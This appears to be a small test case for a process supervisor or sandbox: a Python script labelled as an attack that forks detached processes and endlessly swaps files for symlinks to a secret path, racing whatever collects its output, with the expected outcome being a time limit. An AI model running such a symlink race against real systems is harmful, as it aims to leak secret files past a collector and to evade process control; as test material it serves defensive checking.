# attack: goes on swapping files for links to the machine's secrets while they are collected
# meets: supervisor
# outcome: time_limit
# limits: wallTimeMs=700
import os

secret = os.environ["SECRET"]
for writer in range(4):
    if os.fork() == 0:
        os.setsid()
        break
while True:
    for place in range(8):
        name = f"{place}-{os.getpid()}"
        os.symlink(secret, "next-" + name)
        os.rename("next-" + name, name)
        os.remove(name)
        with open(name, "w") as file:
            file.write("steady")
        os.link(name, "next-" + name)
        os.remove("next-" + name)
